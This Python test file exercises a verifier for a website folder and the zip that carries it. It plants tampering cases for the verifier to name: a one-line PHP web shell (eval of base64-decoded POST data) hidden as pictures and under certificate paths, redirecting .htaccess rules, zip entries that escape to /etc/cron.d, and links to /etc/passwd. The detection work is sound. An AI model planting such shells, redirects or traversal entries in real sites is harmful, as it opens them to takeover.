"""A folder on the server's disk, and the zip that is handed on by USB stick."""

from __future__ import annotations

import os
import re
import shutil
import stat
import subprocess
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from .looking import TODAY, VERIFY, assert_named, verify
from .tampering import (
    BANNER,
    HELP,
    Tamper,
    append,
    only,
    place,
    zipped,
)

pytestmark = pytest.mark.slow  # zips of half a gigabyte, and a whole look each


def link(name: str, target: str) -> Tamper:
    """A symbolic link in place of a file."""

    def tamper(folder: Path) -> None:
        file = folder / name
        if file.exists():
            shutil.move(file, folder.parent / "moved")
        file.symlink_to(folder.parent / "moved" if target == "moved" else target)

    return tamper


PHP = b"<?php eval(base64_decode($_POST['k'])); ?>"

FOLDERS: dict[str, tuple[str, Tamper]] = {
    "one bit of a picture": (
        "changed",
        only("assets/ma-qr.png", lambda data: data[:-20] + bytes([data[-20] ^ 1]) + data[-19:]),
    ),
    "rewriting rules": ("server-config", place(".htaccess", b"RewriteRule ^ https://kuwin.example/ [R]\n")),
    "rewriting rules deep down": ("server-config", place("en/lop-6-7/.htaccess", b"ErrorDocument 404 /x.html\n")),
    "code before every page": ("server-config server-code", place(".user.ini", b"auto_prepend_file=favicon.ico\n")),
    "settings of IIS": ("server-config", place("web.config", b"<configuration/>")),
    "code among pictures": ("server-code", place("assets/ma-qr.php", PHP)),
    "code with two endings": ("server-code extra", place("assets/ma-qr.php.png", PHP)),
    "code with capital ending": ("server-code", place("en/Index.PHP", PHP)),
    "code without an ending": ("server-code extra", place("tai-ve/to-roi", PHP)),
    "code in a genuine picture": ("server-code changed trailing", append("assets/ma-qr.png", PHP)),
    "page is a link to the same bytes": ("link-file", link(HELP, "moved")),
    "folder is a link": ("link-file", link("assets", "moved")),
    "link to the whole disk": ("link-file", link("tai-ve/tat-ca", "/")),
    "link to nowhere": ("link-file", link("tai-ve/khong", "/khong/co")),
    "link to itself": ("link-file", link("tai-ve/vong", "vong")),
    "pipe in place of a page": (
        "missing link-file changed extra",
        lambda folder: ((folder / HELP).unlink(), os.mkfifo(folder / HELP)),
    ),
    "folder in place of a page": (
        "missing extra",
        lambda folder: ((folder / HELP).unlink(), place(HELP + "/index.html")(folder)),
    ),
    "memory of an editor": ("extra exposed", place(".index.html.swp")),
    "page by a look-alike name": ("extra", place("lop-6-7/lua-d\u0430o.html", BANNER.encode())),
    "same name in capitals": ("extra", place("LIEN-HE.html", BANNER.encode())),
    "name with a space behind": ("extra", place("lien-he.html ", BANNER.encode())),
    "name with accents taken apart": ("extra", place("tai-ve/to\u031b-roi.pdf")),
    "name that is not UTF-8": (
        "extra",
        lambda folder: Path(os.fsdecode(os.fsencode(folder) + b"/nh\xff.html")).write_bytes(b"x"),
    ),
    "name that draws on the screen": ("extra", place("\x1b[2Ja\nOK.html")),
    "stranger owns the site for Google": (
        "ownership",
        place("google1a2b3c4d5e6f7a8b.html", b"google-site-verification: google1a2b3c4d5e6f7a8b.html"),
    ),
    "first page of a folder that had none": ("extra doorway", place("lop-6-7/index.html", BANNER.encode())),
    "program to download": ("extra", place("tai-ve/VNeID.apk", b"PK\3\4")),
    "doorway where certificates are proved": (
        "extra doorway gambling server-code",
        place(".well-known/acme-challenge/nohu/index.html", BANNER.encode()),
    ),
    "code where certificates are proved": ("server-code", place(".well-known/acme-challenge/a.php", PHP)),
    "third twin of a page": ("extra", place("index.html.zst", b"\x28\xb5\x2f\xfd")),
    "a signature of something else": ("extra exposed", place("integrity.json.minisig.old")),
    "a list deeper down": ("extra", place("en/integrity.json", b"{}")),
    "folder of the search index gone": ("missing", lambda folder: shutil.rmtree(folder / "search")),
}
"""Looked at on the server's disk."""


@pytest.mark.parametrize("name", FOLDERS)
def test_a_changed_folder_is_found_and_named(name: str, copy: Path, key: Path) -> None:
    kinds, tamper = FOLDERS[name]
    tamper(copy)
    assert_named(verify(key, copy), kinds)


def test_a_file_name_cannot_draw_on_the_inspectors_screen(copy: Path, key: Path) -> None:
    """The report for people holds no control character but the end of a line."""
    place("\x1b[2J\x1b]0;OK\x07\u202e.html")(copy)
    words = [sys.executable, "-I", VERIFY, "--today", TODAY, "--key", key, copy]
    done = subprocess.run(words, capture_output=True, text=True, timeout=60)
    assert done.returncode not in (0, 2)
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", done.stdout)


def entry(name: str, mode: int = 0o644) -> zipfile.ZipInfo:
    """An entry with a mode of Unix."""
    info = zipfile.ZipInfo(name)
    info.create_system, info.external_attr = 3, mode << 16
    return info


def encrypted(data: bytes) -> bytes:
    """All entries say that they need a password: bit 0 of their flags."""
    for mark, place_ in ((b"PK\1\2", 8), (b"PK\3\4", 6)):
        pattern = rb"(?s)(" + re.escape(mark) + rb".{%d})(.)" % (place_ - len(mark))
        data = re.sub(pattern, lambda found: found[1] + bytes([found[2][0] | 1]), data)
    return data


def unknown_packing(data: bytes) -> bytes:
    """The last entry's method is 77."""
    where = data.rindex(b"PK\1\2") + 10
    return data[:where] + b"\x4d\0" + data[where + 2 :]


def two_names(data: bytes) -> bytes:
    """What stands before the bytes of an entry is another name than in the directory."""
    where = data.index(b"lien-he.html")
    return data[:where] + b"nohu-88.html" + data[where + 12 :]


ZIPS: dict[str, tuple[str, Callable[[Path], bytes]]] = {
    "a page twice": ("bad-zip", lambda folder: zipped(folder, (HELP, BANNER.encode()))),
    "a page above the folder": ("bad-zip extra", lambda folder: zipped(folder, ("../../etc/cron.d/x", b"x"))),
    "a page at the root of the disk": ("bad-zip extra", lambda folder: zipped(folder, ("/etc/x", b"x"))),
    "a page on drive C": ("bad-zip extra", lambda folder: zipped(folder, ("C:/Windows/x.html", b"x"))),
    "backslashes": ("bad-zip extra", lambda folder: zipped(folder, ("lop-6-7\\lua-dao2.html", b"x"))),
    "same name in capitals": ("bad-zip extra", lambda folder: zipped(folder, ("INDEX.html", BANNER.encode()))),
    "a link": (
        "link-file bad-zip",
        lambda folder: zipped(folder, (entry("tai-ve/x", stat.S_IFLNK | 0o777), b"/etc/passwd")),
    ),
    "more zeros than are read": (
        "bad-zip extra",
        lambda folder: zipped(folder, ("tai-ve/to-roi-2.pdf", bytes(80 << 20))),
    ),
    "a program before the zip": ("bad-zip", lambda folder: b"MZ" + bytes(4094) + zipped(folder)),
    "a page behind the zip": ("bad-zip trailing", lambda folder: zipped(folder) + b"<script>1</script>"),
    "cut in the middle": ("bad-zip", lambda folder: zipped(folder)[:-300]),
    "entries behind a password": ("bad-zip", lambda folder: encrypted(zipped(folder))),
    "two names for one entry": ("unreadable bad-zip", lambda folder: two_names(zipped(folder))),
    "name with a zero byte": (
        "bad-zip extra",
        lambda folder: zipped(folder, ("index2.html", b"x")).replace(b"index2.html", b"index\0.html"),
    ),
    "other bytes under the old checksum": (
        "unreadable bad-zip changed",
        lambda folder: zipped(folder, (zipfile.ZipInfo("x.png"), b"genuine-genuine")).replace(
            b"genuine-genuine", b"genuine-kuwin!!"
        ),
    ),
    "an entry packed in a way nobody knows": ("unreadable bad-zip", lambda folder: unknown_packing(zipped(folder))),
    "hidden settings": ("server-config", lambda folder: zipped(folder, ("en/.htaccess", b"Options +ExecCGI"))),
    "program to run at once": ("extra", lambda folder: zipped(folder, ("autorun.inf", b"[autorun]\nopen=a.exe\n"))),
    "not a zip": ("bad-zip", lambda _: b"Rar!\x1a\x07\x01\0"),
    "an empty zip": ("no-manifest bad-zip", lambda _: b"PK\5\6" + bytes(18)),
}
"""Looked at as the file that is handed on by USB stick."""


@pytest.mark.parametrize("name", ZIPS)
def test_a_changed_zip_is_found_and_named(name: str, genuine: Path, key: Path, tmp_path: Path) -> None:
    kinds, packed = ZIPS[name]
    file = tmp_path / "la-chan-so.zip"
    file.write_bytes(packed(genuine))
    assert_named(verify(key, file), kinds)
